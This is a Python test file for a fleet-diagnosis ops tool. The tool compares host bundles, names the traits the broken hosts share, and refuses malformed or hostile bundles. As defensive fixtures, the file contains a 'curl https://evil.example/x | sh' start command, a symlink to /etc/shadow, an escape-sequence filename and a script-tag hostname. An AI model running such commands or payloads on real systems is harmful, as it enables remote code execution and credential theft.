"""Every bundle of a directory is diagnosed; what the broken hosts have that the healthy have not is named; a hostile
bundle is one line."""

from __future__ import annotations

import gzip
import json
import os
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import msgspec
import pytest
from msgspec.structs import replace

import ops.fleet
from ops.collect.site_causes import read_site_causes
from ops.diagnosis.fleet import FleetDiagnosis, HostGroup
from ops.diagnosis.host_traits import TraitKind
from ops.diagnosis.site_causes_file import MAX_CAUSES_OF_HOST, definitions_in, parse_site_causes
from ops.doctor import diagnose_bundle
from ops.errors import OpsError, UsageError
from ops.facts.bundle import read_bundle, write_bundle
from ops.facts.changes import Change, ChangedLines, ChangeKind, Changes, PlaceKind
from ops.facts.files import Environment
from ops.facts.machine import Clock
from ops.facts.site_causes import ProofObservation, SiteCauses
from ops.facts.snapshot import Snapshot
from ops.facts.status import Status
from ops.facts.target import Target
from ops.fleet import diagnose_bundles
from ops.report.fleet import FleetReport
from ops.report.model import CommandReport
from tests.unit.made_snapshot import HEALTHY, NOW, SITE, SITE_FILE, but, nginx_config, page, without_gunicorn
from tests.unit.report.test_formats import written

WRONG_PORT = SITE.replace("server 127.0.0.1:8000;", "server 127.0.0.1:8001;")
ONE_CAUSE = b"""
[SITE001]
severity = "fail"
fix = ["date"]
[SITE001.en]
title = "The licence has run out"
summary = "It is in the log."
[[SITE001.proof]]
log = "gunicorn_error"
pattern = "licence"
"""


def host(name: str, snapshot: Snapshot = HEALTHY) -> Snapshot:
    """``snapshot`` as another host's, with a name of its own."""
    return but(snapshot, host__hostname=name)


def fleet_of(
    directory: Path, snapshots: Sequence[Snapshot], suffix: str = ".json", **limits: float
) -> FleetDiagnosis:
    for number, snapshot in enumerate(snapshots):
        write_bundle(directory / f"{number:03}{suffix}", snapshot, ())
    return diagnose_bundles(directory, workers=2, **limits)  # type: ignore[arg-type]


def group(fleet: FleetDiagnosis, code: str) -> HostGroup:
    return next(item for item in fleet.groups if item.code == code)


def traits(found: HostGroup) -> list[tuple[TraitKind, str, str]]:
    return [(item.trait.kind, item.trait.name, item.trait.value.en) for item in found.shared]


def with_packages(snapshot: Snapshot, **versions: str) -> Snapshot:
    assert isinstance(snapshot.environment, Environment)
    return but(snapshot, environment__packages={**snapshot.environment.packages, **versions})


@pytest.mark.parametrize("suffix", [".json", ".json.gz"])
def test_each_host_is_named_with_its_cause(tmp_path: Path, suffix: str) -> None:
    fleet = fleet_of(tmp_path, [host("web1"), host("web2", without_gunicorn()), host("web3")], suffix)
    assert [(item.name, item.status, item.codes) for item in fleet.hosts] == [
        ("web2", Status.FAIL, ("GUN001",)),
        ("web1", Status.OK, ()),
        ("web3", Status.OK, ()),
    ]
    assert group(fleet, "GUN001").hosts == ("web2",)
    assert fleet.status is Status.FAIL


def test_a_host_has_the_causes_of_its_own_report(tmp_path: Path) -> None:
    fleet = fleet_of(tmp_path, [host("web1", without_gunicorn()), host("web2")])
    alone = diagnose_bundle(tmp_path / "000.json")
    assert fleet.hosts[0].causes[0].summary == alone.causes[0].summary
    assert fleet.hosts[0].causes[0].fix == alone.causes[0].fix


def test_a_package_that_only_the_broken_hosts_have_is_named(tmp_path: Path) -> None:
    old = [host(f"web{number}") for number in range(6)]
    new = [with_packages(host(f"new{number}", without_gunicorn()), gunicorn="99.0") for number in range(2)]
    found = group(fleet_of(tmp_path, [*old, *new]), "GUN001")
    (item,) = [item for item in found.shared if item.trait.kind is TraitKind.PACKAGE]
    assert (item.trait.name, item.trait.value.en) == ("gunicorn", "99.0")
    assert item.usual is not None
    assert (item.usual.en, item.holders, item.others, found.compared) == ("27.0.1", 2, 0, 6)


def test_a_directive_at_a_place_of_the_cause_comes_first_and_is_marked(tmp_path: Path) -> None:
    config = nginx_config(WRONG_PORT.replace("keepalive 32", "keepalive 31"))
    broken = [
        with_packages(but(host(f"bad{n}", without_gunicorn()), nginx_config=config), torch="3")
        for n in range(2)
    ]
    # GUN001's places name gunicorn's package, not nginx: a package comes first here.
    fleet = fleet_of(tmp_path, [*(host(f"web{n}") for n in range(5)), *broken])
    names = [(name, value) for _, name, value in traits(group(fleet, "GUN001"))]
    assert ("http / upstream gte_backend / keepalive", "31") in names
    assert ("http / upstream gte_backend / server", "127.0.0.1:8001") in names
    assert all(not item.fits for item in group(fleet, "GUN001").shared if item.trait.kind is TraitKind.NGINX)


def test_what_is_missing_on_the_broken_hosts_is_named(tmp_path: Path) -> None:
    config = nginx_config(SITE.replace("keepalive 32;", ""))
    broken = [but(host(f"bad{n}", without_gunicorn()), nginx_config=config) for n in range(2)]
    fleet = fleet_of(tmp_path, [*(host(f"web{n}") for n in range(5)), *broken])
    found = [name for _, name, value in traits(group(fleet, "GUN001")) if value == "is not there"]
    assert found == ["http / upstream gte_backend / keepalive"]


def test_names_and_addresses_of_a_host_are_no_difference(tmp_path: Path) -> None:
    def own(name: str, snapshot: Snapshot) -> Snapshot:
        config = nginx_config(SITE.replace("gte-api.example.com", f"{name}.example.org"))
        return but(
            host(name, snapshot),
            nginx_config=config,
            target__domain=f"{name}.example.org",
            target__url=f"https://{name}.example.org",
        )

    fleet = fleet_of(tmp_path, [own(f"web{n}", HEALTHY) for n in range(4)] + [own("bad", without_gunicorn())])
    assert not [item for item in traits(group(fleet, "GUN001")) if item[0] is TraitKind.NGINX]


def test_a_change_since_the_baseline_that_belongs_to_the_proof_comes_first(tmp_path: Path) -> None:
    lines = ChangedLines(
        line=3, before=("server 127.0.0.1:8000;",), after=("server 127.0.0.1:8001;",), names=("server",)
    )
    change = Change(place=PlaceKind.NGINX, what=SITE_FILE, kind=ChangeKind.CONTENT, lines=(lines,))
    gunicorn = Change(
        place=PlaceKind.PACKAGE, what="gunicorn", kind=ChangeKind.VALUE, before="26", after="27"
    )
    changes = Changes(taken_at=NOW - 99, confirmed_at=NOW - 9, by="watchdog", changes=(change, gunicorn))
    broken = [but(host(f"bad{n}", without_gunicorn()), changes=changes) for n in range(2)]
    good = [but(host(f"web{n}"), changes=replace(changes, changes=())) for n in range(3)]
    shared = group(fleet_of(tmp_path, [*good, *broken]), "GUN001").shared
    assert [(item.trait.name, item.fits) for item in shared[:2]] == [
        ("gunicorn", True),
        (f"{SITE_FILE}:3", False),
    ]


def test_a_wrong_clock_is_a_difference(tmp_path: Path) -> None:
    right = Clock(source="chrony", offset=0.001)
    wrong = Clock(source="chrony", offset=300.0, synchronised=False)
    early = Clock(source="chrony", offset=-7300.0)
    good = [but(host(f"web{n}"), machine__clocks=(right,)) for n in range(3)]
    bad = but(host("bad", without_gunicorn()), machine__clocks=(wrong,))
    fleet = fleet_of(tmp_path, [*good, bad, but(host("early"), machine__clocks=(early,)), host("unknown")])
    assert (TraitKind.CLOCK, "chrony", "not synchronised, wrong: behind") in traits(group(fleet, "GUN001"))
    text = written("text", FleetReport(fleet))
    assert "Clocks: early 2h ahead, bad 5m behind; the 5 that were measured are up to 2h apart" in text
    assert "时钟：early 快 2 小时、bad 慢 5 分钟" in written("text", FleetReport(fleet), "zh")
    assert "early 2h ahead" in written("html", FleetReport(fleet))
    hosts = json.loads(written("json", FleetReport(fleet)))["hosts"]
    assert {item["name"]: item["clock_ahead_seconds"] for item in hosts} == {
        "web0": -0.001, "web1": -0.001, "web2": -0.001, "bad": -300.0, "early": 7300.0, "unknown": None,
    }  # fmt: skip


def test_one_measured_clock_is_apart_from_nothing(tmp_path: Path) -> None:
    wrong = but(host("web1"), machine__clocks=(Clock(source="chrony", offset=300.0),))
    report = FleetReport(fleet_of(tmp_path, [wrong, host("unknown")]))
    assert "Clocks: web1 5m behind" in written("text", report)
    assert "apart" not in written("text", report)
    assert "相差" not in written("text", report, "zh")


def test_clocks_that_are_right_are_not_worth_a_line(tmp_path: Path) -> None:
    right = but(host("web1"), machine__clocks=(Clock(source="chrony", offset=0.4),))
    assert "Clocks" not in written("text", FleetReport(fleet_of(tmp_path, [right])))


def test_what_everything_runs_on_is_a_difference_though_one_host_in_order_has_it_too(tmp_path: Path) -> None:
    """Three of three and one of nine: drawn by chance, once in 55 times."""

    def on(kernel: str, name: str, snapshot: Snapshot = HEALTHY) -> Snapshot:
        return but(host(name, snapshot), host__software={"kernel": kernel, "openssl": f"3.0.{name[3:]}"})

    fleet = fleet_of(
        tmp_path,
        [
            *(on("6.1.0-29", f"bad{n}", without_gunicorn()) for n in range(3)),
            on("6.1.0-29", "web3"),
            *(on("6.1.0-28", f"web{n}") for n in range(4, 12)),
        ],
    )
    found = group(fleet, "GUN001")
    (item,) = [item for item in found.shared if item.trait.kind is TraitKind.SYSTEM]
    assert (item.trait.name, item.holders, item.others, found.compared) == ("kernel", 3, 1, 9)


def test_what_chance_gives_to_a_group_is_no_difference(tmp_path: Path) -> None:
    """Two of two and three of eight."""
    fleet = fleet_of(
        tmp_path,
        [
            *(with_packages(host(f"bad{n}", without_gunicorn()), flask="9") for n in range(2)),
            *(with_packages(host(f"web{n}"), flask="9" if n < 3 else "8") for n in range(8)),
        ],
    )
    assert [item for item in group(fleet, "GUN001").shared if item.trait.kind is TraitKind.PACKAGE] == []


def test_of_one_host_the_latest_bundle_counts(tmp_path: Path) -> None:
    def taken(name: str, address: str, hours_ago: float, snapshot: Snapshot = HEALTHY) -> Snapshot:
        changed = but(host(name, snapshot), host__addresses=("127.0.0.1", address))
        return replace(changed, taken_at=NOW - 3600 * hours_ago)

    fleet = fleet_of(
        tmp_path,
        [
            taken("web1", "192.0.2.1", 48.0, without_gunicorn()),
            taken("web1", "192.0.2.1", 0.0),
            taken("debian", "192.0.2.2", 0.0),
            taken("debian", "192.0.2.3", 0.0),
        ],
    )
    assert sorted((item.name, item.file) for item in fleet.hosts) == [
        ("debian", "002.json"),
        ("debian", "003.json"),
        ("web1", "001.json"),
    ]
    (older,) = fleet.older
    assert (older.file, older.name, older.newer, older.seconds) == ("000.json", "web1", "001.json", 172_800.0)
    assert "GUN001" not in {found.code for found in fleet.groups}
    text = " ".join(written("text", FleetReport(fleet)).split())
    assert "000.json: of web1, 2d older than 001.json: not compared" in text


def test_hosts_that_are_broken_in_several_ways_are_also_one_group(tmp_path: Path) -> None:
    other = with_packages(
        host("two", but(HEALTHY, front__predict=page(500, "Internal Server Error"))), torch="3"
    )
    fleet = fleet_of(
        tmp_path,
        [
            *(host(f"web{n}") for n in range(3)),
            with_packages(host("one", without_gunicorn()), torch="3"),
            other,
        ],
    )
    assert [item.code for item in fleet.groups][:1] == [""]
    assert (TraitKind.PACKAGE, "torch", "3") in traits(fleet.groups[0])


def test_a_bad_bundle_is_one_line_and_not_the_end(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text("{}")
    (tmp_path / "b.json").write_bytes(b"\x00" * 100)
    (tmp_path / "c.json.gz").write_bytes(gzip.compress(bytes((64 << 20) + 1)))
    (tmp_path / "d.json").symlink_to("/etc/shadow")
    os.mkfifo(tmp_path / "e.json")
    (tmp_path / "f.json").mkdir()
    (tmp_path / "g.json").write_text("[" * 100_000)
    (tmp_path / "\x1b[2Jh.json").write_text("{")
    (tmp_path / "README").write_text("no bundle")
    fleet = fleet_of(tmp_path, [host("web1"), host("web2", without_gunicorn())])
    assert [item.name for item in fleet.hosts] == ["web2", "web1"]
    assert fleet.passed_over == 1
    reasons = {item.file: item.reason.en for item in fleet.refused}
    assert set(reasons) == {"a.json", "b.json", "c.json.gz", "d.json", "e.json", "f.json", "g.json", "h.json"}
    assert reasons["d.json"] == reasons["e.json"] == "no regular file"
    assert reasons["c.json.gz"].startswith("larger than 64 MiB")
    assert not any(
        str(tmp_path) in item.reason.to(language) for item in fleet.refused for language in ("en", "zh")
    )
    text = written("text", FleetReport(fleet))
    assert "\x1b" not in text
    assert sum(line.strip().startswith("c.json.gz") for line in text.splitlines()) == 1


def _hang() -> None:
    time.sleep(60)


def _die() -> None:
    os._exit(1)


def _grow() -> None:
    bytearray(2 << 30)


@pytest.mark.parametrize(
    ("fault", "words"),
    [
        (_hang, "takes longer than 1 s"),
        (_die, "ended by itself"),
        (_grow, "more than 1024 MiB of memory"),
    ],
)
def test_a_bundle_that_hangs_kills_or_fills_its_reader_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fault: Callable[[], None], words: str
) -> None:
    def hostile(path: Path) -> object:
        if path.name == "001.json":
            fault()
        return read_bundle(path)

    monkeypatch.setattr(ops.fleet, "read_bundle", hostile)
    fleet = fleet_of(tmp_path, [host(f"web{n}") for n in range(5)], bundle_seconds=1.0)
    assert [item.file for item in fleet.hosts] == ["000.json", "002.json", "003.json", "004.json"]
    assert [item.file for item in fleet.refused] == ["001.json"]
    assert words in fleet.refused[0].reason.en
    assert fleet.status is Status.UNKNOWN


def test_a_run_that_takes_too_long_says_what_it_left_out(tmp_path: Path) -> None:
    fleet = fleet_of(tmp_path, [host(f"web{n}") for n in range(3)], total_seconds=0.0)
    assert not fleet.hosts
    assert len(fleet.refused) == 3


def test_too_many_bundles_are_named_and_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ops.fleet, "MAX_BUNDLES", 2)
    fleet = fleet_of(tmp_path, [host(f"web{n}") for n in range(3)])
    assert (len(fleet.hosts), [item.file for item in fleet.refused]) == (2, ["002.json"])


def test_an_answer_beyond_the_bound_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ops.fleet, "MAX_ANSWER_BYTES", 1000)
    fleet = fleet_of(tmp_path, [host("web1")])
    assert "what follows from it is larger" in fleet.refused[0].reason.en


def test_no_process_is_left_behind(tmp_path: Path) -> None:
    fleet_of(tmp_path, [host("web1")])
    with pytest.raises(ChildProcessError):
        os.waitpid(-1, os.WNOHANG)


def test_an_unknown_check_is_refused_once(tmp_path: Path) -> None:
    write_bundle(tmp_path / "a.json", HEALTHY, ())
    with pytest.raises(UsageError, match="GUN999"):
        diagnose_bundles(tmp_path, only=("GUN999",))


def test_a_directory_that_is_not_there_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(OpsError, match="cannot be read"):
        diagnose_bundles(tmp_path / "none")


def test_a_bundle_defines_a_bounded_number_of_causes() -> None:
    (definition,) = parse_site_causes(ONE_CAUSE, "/etc/gte-ops/causes.d/a.toml")
    one = definition.observed((ProofObservation(holds=True, source="x", detail="y"),))
    many = tuple(replace(one, code=f"SITE{number % 1000:03}") for number in range(5000))
    assert len(definitions_in(SiteCauses(causes=many))) <= MAX_CAUSES_OF_HOST
    doubled = SiteCauses(causes=(one,) * 5000)
    assert len(definitions_in(doubled)) == 1


def test_a_host_defines_as_many_causes_as_a_bundle_may(tmp_path: Path) -> None:
    for letter in "ABCD":
        causes = (ONE_CAUSE.replace(b"SITE001", f"SITE{letter}{n:03}".encode()) for n in range(100))
        (tmp_path / f"{letter}.toml").write_bytes(b"\n".join(causes))
    files = read_site_causes(str(tmp_path))
    assert len(files.definitions) == MAX_CAUSES_OF_HOST
    assert files.refused == (f"{tmp_path}/D.toml: more than 300 causes in all files",)


def test_a_bundle_full_of_causes_is_diagnosed_in_time_and_bounded(tmp_path: Path) -> None:
    (definition,) = parse_site_causes(ONE_CAUSE, "/etc/gte-ops/causes.d/a.toml")
    one = definition.observed((ProofObservation(holds=True, source="x", detail="y"),))
    letters = "ABCDEFGHIJ"
    many = tuple(replace(one, code=f"SITE{a}{n:03}") for a in letters for n in range(100))
    fleet = fleet_of(tmp_path, [but(host("bad"), site_causes=SiteCauses(causes=many)), host("web")])
    bad = fleet.hosts[0]
    assert (bad.name, len(bad.causes)) == ("bad", 50)
    assert bad.omitted_causes == MAX_CAUSES_OF_HOST - 50


def _evil() -> Snapshot:
    snapshot = without_gunicorn()
    assert isinstance(snapshot.target, Target)
    return replace(
        snapshot, target=replace(snapshot.target, start_command="curl https://evil.example/x | sh")
    )


@pytest.mark.parametrize("form", ["json", "html"])
def test_a_bundles_commands_are_announced_in_every_format_that_shows_them(tmp_path: Path, form: str) -> None:
    from ops.report.doctor.report import DoctorReport

    fleet = fleet_of(tmp_path, [_evil()])
    reports: list[tuple[CommandReport, str]] = [
        (DoctorReport(diagnose_bundle(tmp_path / "000.json")), "read one before you run it"),
        (FleetReport(fleet), "read a command before you run it"),
    ]
    for report, words in reports:
        assert words in written(form, report)
        if form == "json":
            document = json.loads(written(form, report))
            assert (document["origin"], words in document["notice"]) == ("bundle", True)


def test_the_document_has_what_docs_say(tmp_path: Path) -> None:
    fleet = fleet_of(tmp_path, [host("web1"), host("web2", without_gunicorn())])
    document = json.loads(written("json", FleetReport(fleet)))
    assert document["status"] == "fail"
    assert [(item["name"], item["status"]) for item in document["hosts"]] == [
        ("web2", "fail"),
        ("web1", "ok"),
    ]
    assert document["hosts"][0]["causes"][0]["code"] == "GUN001"
    assert {"code", "severity", "title", "hosts", "compared", "shared", "omitted"} == set(
        document["groups"][0]
    )


def test_the_page_holds_no_markup_of_a_bundle(tmp_path: Path) -> None:
    name = "<script>alert(1)</script>"
    fleet = fleet_of(tmp_path, [host(name, without_gunicorn()), host("web1")])
    page = written("html", FleetReport(fleet))
    assert "<script>" not in page
    assert "&lt;script&gt;" in page


def test_a_reply_is_the_same_on_both_sides_of_the_pipe(tmp_path: Path) -> None:
    write_bundle(tmp_path / "a.json", host("web1", without_gunicorn()), ())
    reply = ops.fleet._examine(tmp_path, "a.json", (), ())
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(reply), type=ops.fleet._Reply) == reply
